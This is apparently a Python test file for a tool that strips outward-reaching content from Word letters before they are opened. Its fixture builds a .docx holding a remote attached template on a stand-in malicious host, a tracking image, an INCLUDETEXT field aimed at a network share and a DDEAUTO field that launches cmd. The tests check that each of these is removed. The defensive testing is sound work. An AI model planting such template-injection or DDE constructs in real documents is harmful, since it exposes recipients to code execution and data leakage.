"""What reaches outside a letter when it opens is taken out; what somebody clicks stays."""

import io

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn

from sleutelbos.letters.reading import RefusedLetter, open_letter
from sleutelbos.letters.writing import stripped
from tests.letters.writing import judge, varied

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def saved(document: docx.document.Document) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def reaching_out() -> bytes:
    """A letter with a template, a picture, a fetching field and an embedded program from elsewhere."""
    document = docx.Document()
    document.add_paragraph("U krijgt deze brief van de gemeente.")
    template = document.settings._element
    relation = document.part.part_related_by(f"{OFFICE}/settings").relate_to(
        "http://kwaad.example/sjabloon.dotm", f"{OFFICE}/attachedTemplate", is_external=True
    )
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), relation)
    template.insert(0, attached)
    picture = document.part.relate_to("http://kwaad.example/volg.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    paragraph = document.add_paragraph("Plaatje: ")
    paragraph._p.append(
        parse_xml(f'<w:r {nsdecls("w", "r", "a")}><w:drawing><a:blip r:link="{picture}"/></w:drawing></w:r>')
    )
    code = OxmlElement("w:instrText")
    code.text = ' INCLUDETEXT "\\\\\\\\server\\\\geheim.docx" '
    paragraph.add_run()._r.append(code)
    simple = OxmlElement("w:fldSimple", {qn("w:instr"): " DDEAUTO c:\\\\windows\\\\cmd "})
    paragraph._p.append(simple)
    click = document.part.relate_to("https://www.voorbeeld.nl/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), click)
    link.append(document.add_paragraph("lees meer").runs[0]._r)
    paragraph._p.append(link)
    local = document.part.relate_to("file:///C:/Users/jansen/brief.docx", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    assert local
    return saved(document)


def test_nothing_outside_is_left_but_the_link_somebody_clicks() -> None:
    data = reaching_out()
    everything = b"".join(judge.parts(stripped(data)).values())
    for gone in (b"kwaad.example", b"INCLUDETEXT", b"DDEAUTO", b"attachedTemplate", b"jansen"):
        assert gone in b"".join(judge.parts(data).values())
        assert gone not in everything, gone
    assert b"https://www.voorbeeld.nl/" in everything
    assert open_letter(stripped(data)).notices == ()
    assert open_letter(stripped(data)).blocks == open_letter(data).blocks
    docx.Document(io.BytesIO(stripped(data)))


@pytest.mark.parametrize("seed", range(0, 40, 4))
def test_an_ordinary_letter_stays_as_it_is(seed: int) -> None:
    data = varied.make(seed)
    assert judge.shown(stripped(data)) == judge.shown(data)


def test_the_company_and_the_picture_of_the_first_page_do_not_travel_along() -> None:
    data = varied.make(1)
    assert "docProps/thumbnail.jpeg" in judge.parts(data)
    after = judge.parts(stripped(data))
    assert not [name for name in after if name.startswith(("docProps/thumbnail", "docProps/custom"))]
    assert b"thumbnail" not in after["_rels/.rels"]


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"geen zip", varied.make(1)[:2000]])
def test_what_is_no_letter_is_refused(data: bytes) -> None:
    with pytest.raises(RefusedLetter):
        stripped(data)
